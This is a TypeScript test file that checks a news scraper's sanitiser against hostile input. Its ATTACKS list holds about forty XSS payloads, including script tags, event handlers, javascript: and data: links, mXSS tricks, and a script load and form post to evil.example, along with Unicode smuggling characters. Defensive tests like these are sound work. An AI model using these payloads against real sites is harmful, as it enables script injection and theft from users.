import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseArticle } from '../../src/belta/article.ts';
import { parseListing, parseSourceRss } from '../../src/belta/listing.ts';
import type { Article, ListingItem } from '../../src/belta/model.ts';
import { cleanLabel, cleanText, safeUrl } from '../../src/belta/text.ts';

/**
 * What leaves the extractor is clean text and an allow-listed HTML body. Each attack is put where a text can stand: headline, summary,
 * paragraph, tag, attribute.
 */
const ATTACKS: readonly (readonly [string, string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script in capitals with blanks', '<SCRIPT\t>alert(1)</SCRIPT >'],
  ['split script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unclosed script', '<script src=//evil.example/x.js>'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['event handler without blanks', '<svg/onload=alert(1)>'],
  ['handler on a paragraph', '<p onmouseover="alert(1)">over</p>'],
  ['javascript link', '<a href="javascript:alert(1)">link</a>'],
  ['javascript link with a tab', '<a href="java\tscript:alert(1)">link</a>'],
  ['javascript link with control characters', '<a href="\u0001javascript:alert(1)">link</a>'],
  ['javascript link in entities', '<a href="&#106;avascript&colon;alert(1)">link</a>'],
  ['javascript link in mixed case', '<a href=" JaVaScRiPt:alert(1)">link</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">link</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">link</a>'],
  ['link with credentials', '<a href="https://belta.by@evil.example/">link</a>'],
  ['style', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['style element', '<style>@import "//evil.example";</style>'],
  ['frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  [
    'form',
    '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://evil.example/">'],
  ['svg script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['end of CDATA', ']]><script>alert(1)</script>'],
  ['escaped script', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['twice escaped script', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['attribute breakout', '"><script>alert(1)</script><a title="'],
  ['null byte', 'be\u0000fore'],
  ['controls', 'a\u0008b\u000bc\u001bd\u007fe\u0085f'],
  ['line separators', 'a\u2028b\u2029c'],
  ['bidi override', 'a\u202eb\u2066c\u200fd'],
  ['lone surrogates', 'a\ud800b\udfffc'],
  ['noncharacters', 'a\ufffeb\uffffc\u{1fffe}d\ufdd0e'],
  ['zero width', 'a\u200bb\ufeffc\u2060d\u00ade'],
  ['tag characters', 'a\u{e0041}\u{e0042}b'],
  ['illegal character references', 'a&#0;b&#8;c&#xD800;d&#xFFFE;e&#x202E;f'],
];

const legal = /^[\t\n\r\u0020-\u007e\u00a0-\u{10ffff}]*$/u;
const hidden =
  /[\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufdd0-\ufdef\ufffe\uffff\u{e0000}-\u{e0fff}\p{Surrogate}\p{Noncharacter_Code_Point}]/u;

function expectCleanText(text: string) {
  expect(text).toMatch(legal);
  expect(text).not.toMatch(hidden);
  expect(text).toBe(text.normalize('NFC').trim());
}

/** Everything of the allow-list, and nothing else, can be written with these tags. */
const TAG = /<\/?(?:p|br|strong|em|ul|ol|li|blockquote|h2|h3|h4)>|<a href="https?:\/\/[^"<>\s]*">|<\/a>/g;

function expectCleanHtml(html: string) {
  expectCleanText(html);
  expect(html.replace(TAG, '')).not.toMatch(/[<>]/);
  for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) {
    const url = new URL(href.replaceAll('&amp;', '&'));
    expect(url.protocol).toMatch(/^https?:$/);
    expect(url.username).toBe('');
  }
}

const page = (
  attack: string,
) => `<html><head><meta property="og:title" content="Ein Treffen ${attack.replaceAll('"', '&quot;')}">
<meta name="mediator_published_time" content="2024-02-25T16:28:00+00:00"></head><body><div class="main"><div class="date_full">25 Februar 2024, 16:28</div>
<h1>Ein Treffen ${attack}</h1><div class="inner_content"><div class="text"><div class="js-mediator-article"><p>MINSK, 25. Februar (BelTA) – Zwei Minister haben sich in Minsk getroffen und über Handel gesprochen.</p>
<p>Vorher ${attack} nachher.</p></div></div><div class="news_tags_block"><a class="tag_item" href="/search/findTags/1/">Tag ${attack}</a></div></div></div></body></html>`;

const listing = (
  attack: string,
) => `<div id="inner"><div class="new_date"><div class="day">25</div><div class="month_year"><span>.</span>02.24</div></div>
<div class="news_item lenta_item"><div class="date">16:28 <a class="date_rubric" href="https://deu.belta.by/politics/">Politik ${attack}</a></div>
<a href="/politics/view/ein-treffen-64024-2024/"><span class="lenta_item_title">Ein Treffen ${attack}</span><span class="lenta_textsmall"><div>Zwei Minister sprachen über den Handel. ${attack}</div></span></a></div></div>`;

const feed = (
  attack: string,
) => `<rss><channel><item><title>Ein Treffen ${attack}</title><link>https://deu.belta.by/politics/view/a-64024-2024/</link>
<description>Zwei Minister sprachen. ${attack}</description></item></channel></rss>`;

const context = {
  edition: 'de',
  url: 'https://deu.belta.by/politics/view/ein-treffen-64024-2024/',
  fetchedAtMs: Date.UTC(2024, 1, 26),
} as const;

function expectCleanArticle(article: Article) {
  expectCleanHtml(article.bodyHtml);
  for (const text of [article.title, ...article.paragraphs, ...article.tags, article.section?.label ?? ''])
    expectCleanText(text);
  expect(article.title).not.toMatch(/<\w/);
}

function expectCleanItem(item: ListingItem) {
  for (const text of [item.title, item.summary ?? '', item.section?.label ?? '']) {
    expectCleanText(text);
    expect(text).not.toMatch(/<(?:script|img|svg|iframe|a|p)\b/i);
  }
}

describe('hostile text', () => {
  test.each(ATTACKS)('%s in an article', (_, attack) => {
    const article = parseArticle(page(attack), context);
    if (article.kind === 'failed') throw new Error(article.detail);
    expect(article.title).toContain('Ein Treffen');
    expect(article.identity?.key).toBe('de/64024-2024');
    expectCleanArticle(article);
  });

  test.each(ATTACKS)('%s in a listing', (_, attack) => {
    const result = parseListing(listing(attack), context);
    if (result.kind === 'items') for (const item of result.items) expectCleanItem(item);
    else expect(result.detail).not.toBe('');
  });

  test.each(ATTACKS)('%s in the source feed', (_, attack) => {
    const result = parseSourceRss(feed(attack), context);
    if (result.kind === 'items') for (const item of result.items) expectCleanItem(item);
    else expect(result.detail).not.toBe('');
  });

  test('any text at all comes out clean, and cleaning twice changes nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        const clean = cleanText(text);
        expectCleanText(clean);
        expect(cleanText(clean)).toBe(clean);
        expectCleanText(cleanLabel(text));
      }),
    );
  });

  test('any markup at all gives allow-listed HTML', () => {
    const scrap = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      ';',
      '</',
      '<p',
      '<a href=',
      'javascript:',
      '<script',
      '/>',
      ' on',
      '=',
      '&lt;',
      'Text ',
    );
    fc.assert(
      fc.property(fc.array(scrap, { maxLength: 25 }), (scraps) => {
        const article = parseArticle(page(scraps.join('')), context);
        if (article.kind === 'article') expectCleanArticle(article);
      }),
    );
  });
});

describe('clean text', () => {
  test.each([
    [
      'no-break spaces and line breaks become blanks',
      'Ein\u00a0Treffen\r\n  in\u2009Minsk \u00a0',
      'Ein Treffen in Minsk',
    ],
    ['composed form', 'Pra\u0308sident', 'Präsident'],
    ['soft hyphens go', 'Aus\u00adsen\u00administer', 'Aussenminister'],
    ['a lost letter stays visible', 'Pr\ufffdsident', 'Pr\ufffdsident'],
    ['symbols stay', '50 % – «да» „nein“ № 5 €1 < 2 & 3', '50 % – «да» „nein“ № 5 €1 < 2 & 3'],
    ['astral characters stay', 'Sieg 🏒', 'Sieg 🏒'],
  ])('%s', (_, text, expected) => {
    expect(cleanText(text)).toBe(expected);
  });

  test('entities are decoded exactly once', () => {
    const article = parseArticle(
      page('&amp;amp; &amp;lt;b&amp;gt;').replaceAll('content="Ein', 'content="Ein'),
      context,
    );
    expect(article).toMatchObject({ paragraphs: [expect.anything(), 'Vorher &amp; &lt;b&gt; nachher.'] });
    expect(article).toMatchObject({
      bodyHtml: expect.stringContaining('<p>Vorher &amp;amp; &amp;lt;b&amp;gt; nachher.</p>'),
    });
  });

  test.each([
    ['https://belta.by/x', 'https://belta.by/x'],
    ['/x?a=1&b=2', 'https://deu.belta.by/x?a=1&b=2'],
    ['//img.belta.by/x.jpg', 'https://img.belta.by/x.jpg'],
    ['javascript:alert(1)', undefined],
    ['java\nscript:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['mailto:a@b.by', undefined],
    ['https://user:pass@belta.by/', undefined],
    ['https://', undefined],
    ['#top', undefined],
  ])('link %s', (href, expected) => {
    expect(safeUrl(href, 'https://deu.belta.by/politics/')).toBe(expected);
  });
});
